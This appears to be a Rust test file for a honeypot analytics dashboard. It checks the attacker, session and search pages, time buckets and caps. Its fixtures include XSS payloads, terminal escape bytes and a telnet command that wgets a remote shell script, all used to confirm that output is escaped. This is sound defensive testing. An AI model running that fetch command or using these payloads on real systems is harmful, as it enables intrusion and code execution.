//! Issue 21, the analyst's drill-down: time buckets chosen from the range, the attacker page,
//! the session page and search, in the library, the dashboard (HTML, JSON, CSV) and with
//! hostile bytes in every field. Runs on SQLite, and on PostgreSQL with
//! `DROSERA_TEST_BACKEND=postgres` (the second pass of `scripts/test.sh`).
// Tests may panic; the workspace denies unwrap/expect elsewhere.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod analytics_support;
use analytics_support::*;
use drosera_admin::analytics::{self, DrillConfig, Query, SearchKind};
use drosera_uplink::event::{Detail, Protocol};

/// The `[drill]` caps of a config without that section.
const CAPS: DrillConfig = DrillConfig::DEFAULTS;

fn range(since: i64, until: i64) -> Query {
    Query { since_ms: Some(since), until_ms: Some(until), sensor: None, ..Default::default() }
}

/// Attacker text in every field a page shows.
const SCRIPT: &str = "<script>alert(1)</script>\x1b[2J\x07";
const IMG: &str = "\"><img src=x onerror=alert(1)>";
const HOSTILE_IP: &str = "203.0.113.66";

/// The fixture (several protocols, see `analytics_support::fixture`) plus sensor `s3` with one
/// telnet session (hostile login, shell lines, a download), one HTTP request with hostile
/// headers, and a MySQL session with SQL, all from [`HOSTILE_IP`].
fn seeded(path: &std::path::Path) -> Db {
    let mut c = fixture(path);
    let t = T0 + 4 * HOUR;
    let cmd = |line: &str| Detail::Command { line: line.into() };
    let events = vec![
        ev(1, t, Protocol::Telnet, HOSTILE_IP, 23, 7, login(IMG, SCRIPT)),
        ev(2, t + 1000, Protocol::Telnet, HOSTILE_IP, 23, 7, cmd("cd /tmp; wget http://198.51.100.9/m.sh")),
        ev(3, t + 2000, Protocol::Telnet, HOSTILE_IP, 23, 7, cmd(SCRIPT)),
        ev(
            4,
            t + 2500,
            Protocol::Telnet,
            HOSTILE_IP,
            23,
            7,
            Detail::DownloadOffered { url: "http://198.51.100.9/m.sh".into(), tool: "wget".into() },
        ),
        ev(5, t + 3000, Protocol::Telnet, HOSTILE_IP, 23, 7, conn()),
        ev(
            6,
            t + 4000,
            Protocol::Http,
            HOSTILE_IP,
            80,
            8,
            Detail::HttpRequest {
                method: "GET".into(),
                path: "/<svg onload=alert(1)>".into(),
                query: "a=<b>".into(),
                host: "h\u{202e}x".into(),
                user_agent: SCRIPT.into(),
                body_sha256: None,
                body_len: 0,
                extra: vec![("x-evil".into(), "<iframe src=//e>".into())],
            },
        ),
        ev(7, t + 4500, Protocol::Http, HOSTILE_IP, 80, 8, conn()),
        ev(8, t + 5000, Protocol::Mysql, HOSTILE_IP, 3306, 9, cmd("SELECT '<script>' FROM users")),
        ev(9, t + 5500, Protocol::Mysql, HOSTILE_IP, 3306, 9, conn()),
    ];
    insert(&*c, "s3", &events);
    analytics::refresh(&mut *c, &enricher()).unwrap();
    c
}

fn no_raw_markup(what: &str, s: &str) {
    for bad in ["<script", "<img", "<svg onload", "<iframe", "\x1b", "\x07", "\u{202e}"] {
        assert!(!s.contains(bad), "{what} contains {bad:?}: {s}");
    }
}

#[test]
fn attacker_session_and_search_in_the_library() {
    let dir = tempfile::tempdir().unwrap();
    let c = seeded(&dir.path().join("a.db"));
    let all = range(T0, T0 + 10 * DAY);

    // Attacker: every credential, its sessions, sensors and protocols.
    let a = analytics::attacker(&*c, &all, "8.8.8.8", 1, &CAPS).unwrap().unwrap();
    assert_eq!(a.attempts, 12);
    assert_eq!(a.sessions_total, 12);
    assert_eq!(a.sessions.len(), 12);
    assert_eq!(a.sessions[0].session_id, 111, "newest first");
    let creds: Vec<(&str, &str, i64)> =
        a.credentials.iter().map(|s| (s.value.as_str(), s.detail.as_str(), s.count)).collect();
    assert_eq!(creds, vec![("root", "xc3511", 5), ("admin", "admin", 2)]);
    assert_eq!(a.sensors.len(), 1);
    assert_eq!(a.sensors[0].value, "s1");
    assert_eq!(a.first_seen_ms, Some(T0 + HOUR + 60_000));
    assert!(!a.truncated);
    // Downloads, samples and exploits of another address.
    let b = analytics::attacker(&*c, &all, "10.0.0.5", 1, &CAPS).unwrap().unwrap();
    assert_eq!(b.samples[0].value, "ab".repeat(32));
    assert_eq!(b.exploits[0].detail, "CVE-2014-6271");
    assert_eq!(b.downloads[0].value, "http://198.51.100.7/<b>x.sh");
    // Paging, and nothing outside the range.
    let p2 = analytics::attacker(&*c, &all, "8.8.8.8", 2, &CAPS).unwrap().unwrap();
    assert!(p2.sessions.is_empty() && p2.page == 2);
    assert!(analytics::attacker(&*c, &range(T0 + 5 * DAY, T0 + 6 * DAY), "8.8.8.8", 1, &CAPS).unwrap().is_none());
    assert!(analytics::attacker(&*c, &all, "192.0.2.1", 1, &CAPS).unwrap().is_none());

    // Session: every event of one connection in sequence order.
    let s = analytics::session(&*c, "s3", 7, &CAPS).unwrap().unwrap();
    let kinds: Vec<&str> = s.events.iter().map(|e| e.kind.as_str()).collect();
    assert_eq!(kinds, vec!["login", "command", "command", "download_offered", "connection"]);
    assert_eq!(s.events[1].summary, "cd /tmp; wget http://198.51.100.9/m.sh");
    assert_eq!(s.src_ip, HOSTILE_IP);
    let h = analytics::session(&*c, "s3", 8, &CAPS).unwrap().unwrap();
    assert_eq!(h.events[0].summary, "GET /<svg onload=alert(1)>?a=<b>");
    assert_eq!(h.events[0].fields.get("x-evil").map(String::as_str), Some("<iframe src=//e>"));
    assert!(analytics::session(&*c, "s3", 99, &CAPS).unwrap().is_none());
    assert!(analytics::session(&*c, "nope", 7, &CAPS).unwrap().is_none());
    // The text forms escape control characters.
    for text in
        [s.to_text(), h.to_text(), analytics::attacker(&*c, &all, HOSTILE_IP, 1, &CAPS).unwrap().unwrap().to_text()]
    {
        assert!(!text.contains('\x1b') && !text.contains('\x07') && !text.contains('\u{202e}'), "{text}");
    }

    // Search, every kind.
    let hits = |q: &str| analytics::search(&*c, &all, q, &CAPS).unwrap();
    let r = hits("8.8.8.0/24");
    assert_eq!(r.kinds, vec![SearchKind::Address]);
    assert_eq!(r.hits.iter().map(|h| h.value.as_str()).collect::<Vec<_>>(), vec!["8.8.8.8"]);
    let r = hits("10.0.0.0/8");
    assert_eq!(r.hits.len(), 1);
    assert_eq!(r.hits[0].src_ip, "10.0.0.5");
    assert_eq!(hits("2a00:1450::/32").hits.len(), 1);
    let r = hits("root");
    assert_eq!(r.kinds, vec![SearchKind::User, SearchKind::Password]);
    assert_eq!(r.hits.len(), 8, "5 root/xc3511 from 8.8.8.8 and 3 root/123456 from 1.1.1.1");
    assert!(r.hits.iter().all(|h| h.session_id != 0 && !h.sensor.is_empty()));
    assert_eq!(hits("pass:xc3511").hits.len(), 5);
    assert_eq!(hits("user:xc3511").hits.len(), 0);
    let r = hits("http://198.51.100.9");
    assert_eq!(r.kinds, vec![SearchKind::Url]);
    assert!(r.hits.iter().any(|h| h.src_ip == HOSTILE_IP && h.session_id == 7), "{r:?}");
    let r = hits(&"AB".repeat(32));
    assert_eq!(r.kinds, vec![SearchKind::Sha256]);
    assert_eq!(r.hits.len(), 1);
    assert_eq!((r.hits[0].src_ip.as_str(), r.hits[0].session_id), ("10.0.0.5", 200));
    let r = hits("cve-2014-6271");
    assert_eq!(r.kinds, vec![SearchKind::Cve]);
    assert_eq!(r.hits.len(), 1);
    assert_eq!(r.hits[0].value, "shellshock");
    let r = hits("ssh");
    assert_eq!(r.kinds, vec![SearchKind::Protocol]);
    assert_eq!(r.hits.len(), 3);
    let r = hits("s2");
    assert_eq!(r.kinds, vec![SearchKind::Sensor]);
    assert_eq!(r.hits.len(), 3);
    assert!(r.hits.iter().all(|h| h.sensor == "s2"));
    assert!(hits("nobody-typed-this").hits.is_empty());
}

#[test]
fn time_buckets_follow_the_range() {
    let dir = tempfile::tempdir().unwrap();
    let c = seeded(&dir.path().join("a.db"));
    // A 20-hour window (the field report's whole deployment): hourly, per protocol.
    let tl = analytics::timeline(&*c, &range(T0, T0 + 20 * HOUR)).unwrap();
    assert_eq!(tl.resolution, "hour");
    assert_eq!(tl.bucket_ms, HOUR);
    assert_eq!(tl.buckets.first(), Some(&(T0 + HOUR)));
    assert_eq!(tl.buckets.last(), Some(&(T0 + 12 * HOUR)));
    assert_eq!(tl.attempts.iter().sum::<i64>(), 116);
    let proto = |p: &str| tl.per_protocol.iter().find(|s| s.protocol == p).map(|s| s.attempts.iter().sum::<i64>());
    assert_eq!((proto("smb"), proto("telnet"), proto("http"), proto("mysql")), (Some(100), Some(13), Some(2), Some(1)));
    assert_eq!(tl.per_protocol[0].protocol, "smb", "most attempts first");
    for i in 0..tl.buckets.len() {
        let stacked: i64 = tl.per_protocol.iter().map(|p| p.attempts[i]).sum();
        assert_eq!(stacked, tl.attempts[i], "bucket {i}");
    }
    // Up to 3 hours: minutes, from raw events.
    let tl = analytics::timeline(&*c, &range(T0 + HOUR, T0 + 3 * HOUR)).unwrap();
    assert_eq!(tl.resolution, "minute");
    assert_eq!(tl.buckets, (0..=60).map(|i| T0 + HOUR + 60_000 + i * 60_000).collect::<Vec<_>>());
    assert_eq!(tl.attempts.iter().sum::<i64>(), 2);
    assert_eq!((tl.attempts[0], tl.attempts[60]), (1, 1));
    // A single bucket is a bucket.
    let tl = analytics::timeline(&*c, &range(T0 + HOUR, T0 + HOUR + 30 * 60_000)).unwrap();
    assert_eq!((tl.resolution.as_str(), tl.buckets.len(), tl.attempts.clone()), ("minute", 1, vec![1]));
    assert_eq!(tl.per_protocol.len(), 1);
    let page = drosera_admin::dashboard::pages::overview(
        &analytics::totals(&*c, &range(T0 + HOUR, T0 + HOUR + 30 * 60_000)).unwrap(),
        &tl,
        &[],
        &[],
    );
    assert_eq!(page.matches(r#"<rect class="bar""#).count(), 1, "{page}");
    // Over 3 days: days.
    let tl = analytics::timeline(&*c, &range(T0, T0 + 4 * DAY)).unwrap();
    assert_eq!(tl.resolution, "day");
    assert_eq!(tl.buckets, vec![T0, T0 + DAY, T0 + 2 * DAY]);
    assert_eq!(tl.per_protocol.iter().map(|p| p.attempts.iter().sum::<i64>()).sum::<i64>(), 119);
    // The CLI report prints it.
    let text = analytics::report(&*c, &range(T0, T0 + 20 * HOUR), 0, 10).unwrap().to_text();
    assert!(text.contains("Attempts per hour (UTC):"), "{text}");
    assert!(text.contains("05-01 01:00"), "{text}");
}

fn login_cookie(a: std::net::SocketAddr) -> String {
    let r = http(a, "GET", "/login", &[], "");
    let c = r.cookies().into_iter().find(|c| c.starts_with("drosera_login=")).unwrap().to_string();
    let nonce = c.trim_start_matches("drosera_login=").split(';').next().unwrap().to_string();
    let ct = ("Content-Type", "application/x-www-form-urlencoded");
    let cookie = format!("drosera_login={nonce}");
    let r = http(
        a,
        "POST",
        "/login",
        &[ct, ("Cookie", &cookie)],
        &format!("csrf={nonce}&username=admin&password=correct+horse"),
    );
    assert_eq!(r.status, 303);
    let sc = r.cookies().into_iter().find(|c| c.starts_with("drosera_session=")).unwrap().to_string();
    sc.split(';').next().unwrap().to_string()
}

const RANGE: &str = "since=1714521600000&until=1715385600000";

#[test]
fn drill_down_pages_json_and_csv_over_http() {
    let dir = tempfile::tempdir().unwrap();
    let c = seeded(&dir.path().join("a.db"));
    drosera_admin::users::add_user(&*c, "admin", "correct horse").unwrap();
    let served = serve_dashboard(&c.loc, true);
    let a = served.addr;

    // Nothing without a session.
    for p in ["/attacker/8.8.8.8", "/session/s3/7", "/search?q=root"] {
        let r = http(a, "GET", p, &[], "");
        assert_eq!((r.status, r.header("location")), (303, Some("/login")), "{p}");
    }
    for p in ["/api/attacker?addr=8.8.8.8", "/api/session?sensor=s3&conn=7", "/api/search?q=root"] {
        assert_eq!(http(a, "GET", p, &[], "").status, 401, "{p}");
        assert_eq!(http(a, "GET", &format!("{p}&format=csv&table=sessions"), &[], "").status, 401, "{p}");
    }
    let cookie = login_cookie(a);
    let auth = [("Cookie", cookie.as_str())];
    let all = range(T0, T0 + 10 * DAY);

    // Attacker page: facts, credentials, sessions linked, addresses linked everywhere.
    let r = http(a, "GET", &format!("/attacker/8.8.8.8?{RANGE}"), &auth, "");
    assert_eq!(r.status, 200, "{}", r.body);
    assert!(r.body.contains(r#"<td id="attempts">12</td>"#), "{}", r.body);
    assert!(r.body.contains(r#"href="/session/s1/111""#));
    for cut in [r#"id="truncated""#, r#"id="lists-cut""#, r#"id="cut-"#] {
        assert!(!r.body.contains(cut), "nothing cut at the default caps: {}", r.body);
    }
    assert!(r.body.contains("xc3511"));
    assert!(
        r.body.contains(&format!(
            "/api/attacker?addr=8.8.8.8&amp;{}&amp;format=csv&amp;table=credentials",
            RANGE.replace('&', "&amp;")
        )),
        "{}",
        r.body
    );
    let r = http(a, "GET", &format!("/attackers?{RANGE}"), &auth, "");
    assert!(r.body.contains(r#"href="/attacker/8.8.8.8""#));
    assert!(r.body.contains(r#"href="/attacker/2a00%3A1450%3A4001%3A%3A1""#), "IPv6 linked, encoded");
    let r = http(a, "GET", &format!("/payloads?{RANGE}"), &auth, "");
    assert!(r.body.contains(r#"href="/attacker/10.0.0.5""#));
    let r = http(a, "GET", "/attacker/2a00%3A1450%3A4001%3A%3A1", &auth, "");
    assert_eq!(r.status, 200);
    assert!(r.body.contains(r#"<td id="attempts">100</td>"#), "rolled-up connections count");
    assert_eq!(http(a, "GET", "/attacker/not-an-ip", &auth, "").status, 400);
    assert_eq!(http(a, "GET", "/attacker/192.0.2.1", &auth, "").status, 404);

    // Hostile bytes are escaped on every page and in the CSV.
    for p in [
        format!("/attacker/{HOSTILE_IP}?{RANGE}"),
        "/session/s3/7".into(),
        "/session/s3/8".into(),
        "/session/s3/9".into(),
    ] {
        let r = http(a, "GET", &p, &auth, "");
        assert_eq!(r.status, 200, "{p}");
        no_raw_markup(&p, &r.body);
    }
    let r = http(a, "GET", "/session/s3/7", &auth, "");
    assert!(
        r.body.contains(r#"id="transcript""#) && r.body.contains("$ cd /tmp; wget http://198.51.100.9/m.sh"),
        "{}",
        r.body
    );
    assert!(r.body.contains("&lt;script&gt;alert(1)&lt;/script&gt;"));
    let r = http(a, "GET", "/session/s3/8", &auth, "");
    assert!(r.body.contains("x-evil: &lt;iframe src=//e&gt;"), "HTTP headers shown: {}", r.body);
    let r = http(a, "GET", "/session/s3/9", &auth, "");
    assert!(r.body.contains("SELECT &#39;&lt;script&gt;&#39; FROM users"), "SQL shown: {}", r.body);
    assert_eq!(http(a, "GET", "/session/s3/x", &auth, "").status, 400);
    assert_eq!(http(a, "GET", "/session/s3/12345", &auth, "").status, 404);
    let r = http(a, "GET", &format!("/api/attacker?addr={HOSTILE_IP}&{RANGE}&format=csv&table=credentials"), &auth, "");
    assert_eq!(r.status, 200);
    assert!(r.header("content-type").unwrap().starts_with("text/csv"));
    assert!(r.header("content-disposition").unwrap().contains("attacker-credentials.csv"));
    let lines: Vec<&str> = r.body.lines().collect();
    assert_eq!(lines[0], "user,password,count,first seen,last seen");
    assert_eq!(lines.len(), 2, "{}", r.body);
    assert!(!r.body.contains('\x1b') && !r.body.contains('\x07'), "{}", r.body);
    let r = http(a, "GET", "/api/session?sensor=s3&conn=8&format=csv&table=events", &auth, "");
    assert_eq!(r.status, 200);
    assert!(r.body.starts_with("time,seq,kind,what,fields,derived\n"));
    assert!(!r.body.contains('\x1b'));
    assert_eq!(http(a, "GET", "/api/session?sensor=s3&conn=8&format=csv&table=nope", &auth, "").status, 404);

    // JSON is what the library computes.
    let j = |p: &str| -> serde_json::Value {
        let r = http(a, "GET", p, &auth, "");
        assert_eq!(r.status, 200, "{p}: {}", r.body);
        serde_json::from_str(&r.body).unwrap()
    };
    assert_eq!(
        j(&format!("/api/attacker?addr=8.8.8.8&{RANGE}")),
        serde_json::to_value(analytics::attacker(&*c, &all, "8.8.8.8", 1, &CAPS).unwrap().unwrap()).unwrap()
    );
    assert_eq!(
        j("/api/session?sensor=s3&conn=7"),
        serde_json::to_value(analytics::session(&*c, "s3", 7, &CAPS).unwrap().unwrap()).unwrap()
    );
    assert_eq!(
        j(&format!("/api/search?q=root&{RANGE}")),
        serde_json::to_value(analytics::search(&*c, &all, "root", &CAPS).unwrap()).unwrap()
    );
    assert_eq!(http(a, "GET", "/api/session?sensor=s3", &auth, "").status, 400);
    assert_eq!(http(a, "GET", &format!("/api/search?q={}", "x".repeat(600)), &auth, "").status, 400);

    // Search page: results link to attacker and session pages.
    let r = http(a, "GET", &format!("/search?q=xc3511&{RANGE}"), &auth, "");
    assert_eq!(r.status, 200);
    assert!(r.body.contains(r#"<p id="search-summary">5 results"#), "{}", r.body);
    assert!(r.body.contains(r#"href="/attacker/8.8.8.8""#) && r.body.contains(r#"href="/session/s1/100""#));
    assert!(r.body.contains(r#"<input type="hidden" name="since" value="1714521600000">"#), "the range stays");
    let r = http(a, "GET", "/search?q=%3Cscript%3E", &auth, "");
    assert_eq!(r.status, 200);
    no_raw_markup("search", &r.body);
    let r = http(a, "GET", "/search", &auth, "");
    assert!(r.status == 200 && r.body.contains(r#"id="search-form""#));

    // The overview draws the stacked per-protocol chart.
    let r = http(a, "GET", &format!("/?since={}&until={}", T0, T0 + 20 * HOUR), &auth, "");
    assert!(r.body.contains("Attempts per hour and protocol") && r.body.contains(r#"<rect class="bar""#), "{}", r.body);
}

/// Every `[drill]` cap set small: each cut is said on the page, in the JSON and in the CLI's
/// text, and the numbers are the config's.
#[test]
fn small_drill_caps_cut_and_every_page_says_so() {
    let dir = tempfile::tempdir().unwrap();
    let c = seeded(&dir.path().join("a.db"));
    drosera_admin::users::add_user(&*c, "admin", "correct horse").unwrap();
    let all = range(T0, T0 + 10 * DAY);
    let full = analytics::attacker(&*c, &all, "8.8.8.8", 1, &CAPS).unwrap().unwrap();
    assert!(!full.truncated && full.lists_cut.is_empty(), "{full:?}");
    assert_eq!(full.credentials.len(), 2);
    let caps = DrillConfig {
        attacker_events: u32::try_from(full.events - 1).unwrap(),
        session_events: 2,
        search_scan: 20_000,
        search_hits: 3,
        sessions_per_page: 5,
        list_rows: 1,
        search_chars: 8,
    };

    // The library: each cut is in the answer.
    let a = analytics::attacker(&*c, &all, "8.8.8.8", 1, &caps).unwrap().unwrap();
    assert!(a.truncated);
    assert_eq!((a.events, a.max_events), (full.events - 1, full.events - 1));
    assert_eq!(a.credentials.len(), 1);
    assert_eq!(a.credentials[0].value, "root", "the most frequent kept");
    assert!(
        a.lists_cut.contains(&analytics::ListCut { list: "credentials".into(), shown: 1, distinct: 2 }),
        "{:?}",
        a.lists_cut
    );
    assert_eq!((a.sessions.len(), a.per_page), (5, 5));
    let s = analytics::session(&*c, "s3", 7, &caps).unwrap().unwrap();
    assert!(s.truncated && s.events.len() == 2 && s.max_events == 2, "{s:?}");
    assert_eq!(s.events[0].kind, "login", "the first events kept");
    let r = analytics::search(&*c, &all, "root", &caps).unwrap();
    assert!(r.truncated && r.hits.len() == 3 && r.max_hits == 3, "{r:?}");
    let narrow = DrillConfig { search_scan: 2, ..CAPS };
    let r = analytics::search(&*c, &all, "root", &narrow).unwrap();
    assert!(r.truncated && r.hits.len() <= 2 && r.max_scan == 2, "{r:?}");
    // search_chars: 8 characters pass, 9 are refused (the CLI goes through this call).
    assert!(analytics::search(&*c, &all, "ip:8.8.8", &caps).is_ok());
    let e = analytics::search(&*c, &all, "user:root", &caps).unwrap_err();
    assert!(e.to_string().contains("drill.search_chars (8)"), "{e}");
    // A page number past the last that can hold a session is clamped to it.
    let last = analytics::attacker(&*c, &all, "8.8.8.8", usize::MAX, &caps).unwrap().unwrap();
    assert_eq!(last.page, caps.last_attacker_page());
    let text = a.to_text();
    assert!(text.contains("[drill] attacker_events") && text.contains("the 1 most frequent of 2 distinct"), "{text}");

    // The dashboard, served with these caps.
    let dash = drosera_admin::dashboard::DashboardConfig { cookie_secure: true, ..Default::default() };
    let served = serve_dashboard_drill(&c.loc, dash, caps);
    let a_ = served.addr;
    let cookie = login_cookie(a_);
    let auth = [("Cookie", cookie.as_str())];
    let r = http(a_, "GET", &format!("/attacker/8.8.8.8?{RANGE}"), &auth, "");
    assert_eq!(r.status, 200, "{}", r.body);
    assert!(
        r.body.contains(&format!(
            r#"<p class="note" id="truncated">This address has more than {} events in this range (the cap [drill] attacker_events)"#,
            full.events - 1
        )),
        "{}",
        r.body
    );
    assert!(r.body.contains(r#"id="lists-cut">Cut to their 1 most frequent values"#), "{}", r.body);
    assert!(
        r.body.contains(r#"<p class="note" id="cut-credentials">The 1 most frequent of 2 distinct values"#),
        "{}",
        r.body
    );
    assert!(r.body.contains("page 1 of "), "{}", r.body);
    let r = http(a_, "GET", &format!("/api/attacker?addr=8.8.8.8&{RANGE}&format=csv&table=credentials"), &auth, "");
    assert_eq!(r.body.lines().count(), 2, "header and the one row kept: {}", r.body);
    let j = |p: &str| -> serde_json::Value {
        let r = http(a_, "GET", p, &auth, "");
        assert_eq!(r.status, 200, "{p}: {}", r.body);
        serde_json::from_str(&r.body).unwrap()
    };
    assert_eq!(j(&format!("/api/attacker?addr=8.8.8.8&{RANGE}")), serde_json::to_value(&a).unwrap());
    let r = http(a_, "GET", "/session/s3/7", &auth, "");
    assert!(
        r.body.contains(
            r#"<p class="note" id="truncated">This connection has more than 2 events (the cap [drill] session_events)"#
        ),
        "{}",
        r.body
    );
    assert_eq!(j("/api/session?sensor=s3&conn=7"), serde_json::to_value(&s).unwrap());
    let r = http(a_, "GET", &format!("/search?q=root&{RANGE}"), &auth, "");
    assert!(r.body.contains(r#"<p id="search-summary">3 results"#), "{}", r.body);
    assert!(
        r.body.contains(r#"id="truncated">More may match"#) && r.body.contains("[drill] search_hits"),
        "{}",
        r.body
    );
    let r = j(&format!("/api/search?q=root&{RANGE}"));
    assert_eq!((r["truncated"].as_bool(), r["hits"].as_array().map(Vec::len)), (Some(true), Some(3)));
    // Past drill.search_chars: a 400 from the page and the API, naming the key.
    let r = http(a_, "GET", &format!("/search?q=user:root&{RANGE}"), &auth, "");
    assert!(r.status == 400 && r.body.contains("drill.search_chars"), "{} {}", r.status, r.body);
    let r = http(a_, "GET", &format!("/api/search?q=user:root&{RANGE}"), &auth, "");
    assert!(r.status == 400 && r.body.contains("longer than 8 characters"), "{} {}", r.status, r.body);
}

/// The minute chart's counts: a backend's own (SQLite counts in SQL) equal the row-by-row
/// default, and both give up past the row cap.
#[test]
fn minute_counts_of_the_backend_equal_the_row_by_row_default() {
    use drosera_admin::storage::{minute_counts_by_rows, EventRange, MinuteCount};
    let dir = tempfile::tempdir().unwrap();
    let c = seeded(&dir.path().join("a.db"));
    let range = EventRange { since_ms: T0, until_ms: T0 + 10 * DAY, sensor_id: None };
    let sorted = |mut v: Vec<MinuteCount>| {
        v.sort_by(|a, b| (a.minute, &a.sensor, &a.protocol).cmp(&(b.minute, &b.sensor, &b.protocol)));
        v
    };
    let by_rows = |cap: i64| minute_counts_by_rows(&*c, &range, cap, &mut |_| true).unwrap();
    let own = sorted(c.minute_counts(&range, 200_000).unwrap().unwrap());
    assert_eq!(own, sorted(by_rows(200_000).unwrap()));
    assert!(own.iter().any(|m| m.logins > 0) && own.iter().any(|m| m.attempts > 0), "{own:?}");
    assert!(own.iter().all(|m| m.minute % 60_000 == 0));
    // Past the cap (one row of a kind more than allowed), neither answers.
    let logins: i64 = own.iter().map(|m| m.logins).sum();
    assert_eq!(c.minute_counts(&range, logins - 1).unwrap(), None);
    assert_eq!(by_rows(logins - 1), None);
    assert!(c.minute_counts(&range, logins.max(own.iter().map(|m| m.attempts).sum())).unwrap().is_some());
}

/// The minute chart leaves out the label classes the query leaves out (by default `self` and
/// `research`), counted as the row-by-row classification counts them, and brings them back
/// with `include`.
#[test]
fn minute_chart_leaves_out_labelled_addresses() {
    use drosera_admin::labels::{Include, Label, Labeler};
    use drosera_admin::storage::{minute_counts_by_rows, EventRange};
    let dir = tempfile::tempdir().unwrap();
    let mut c = seeded(&dir.path().join("a.db"));
    drosera_admin::labels::add(&*c, HOSTILE_IP, &Label::SelfTest, "", 10, 1).unwrap();
    analytics::relabel(&mut *c, &enricher()).unwrap();
    // Hour 4: 8.8.8.8 (a login and a connection) and the labelled address (a login and three
    // connections over three protocols), each in its own minute.
    let (since, until) = (T0 + 4 * HOUR, T0 + 5 * HOUR);
    let tl = analytics::timeline(&*c, &range(since, until)).unwrap();
    assert_eq!(tl.resolution, "minute");
    assert_eq!((tl.attempts.iter().sum::<i64>(), tl.logins.iter().sum::<i64>()), (1, 1), "{tl:?}");
    assert_eq!(tl.buckets, vec![since + 60_000], "the labelled address's minute is not a bucket");
    assert_eq!(tl.per_protocol.iter().map(|p| p.protocol.as_str()).collect::<Vec<_>>(), vec!["telnet"]);
    // The same as classifying every row.
    let labeler = Labeler::new(&c.labels().unwrap(), true);
    let rows = minute_counts_by_rows(
        &*c,
        &EventRange { since_ms: since, until_ms: until, sensor_id: None },
        200_000,
        &mut |row| labeler.label_str(row.src_ip, || None).and_then(|l| l.class()).is_none(),
    )
    .unwrap()
    .unwrap();
    assert_eq!(rows.iter().map(|m| (m.minute, m.attempts, m.logins)).collect::<Vec<_>>(), vec![(since + 60_000, 1, 1)]);
    // Included again.
    let all = Query { include: Include::ALL, ..range(since, until) };
    let tl = analytics::timeline(&*c, &all).unwrap();
    assert_eq!((tl.attempts.iter().sum::<i64>(), tl.logins.iter().sum::<i64>()), (4, 2), "{tl:?}");
    assert_eq!(tl.buckets, vec![since, since + 60_000]);
    let stacked: i64 = tl.per_protocol.iter().map(|p| p.attempts[0]).sum();
    assert_eq!(stacked, 3, "telnet, http and mysql in the labelled address's minute");
}
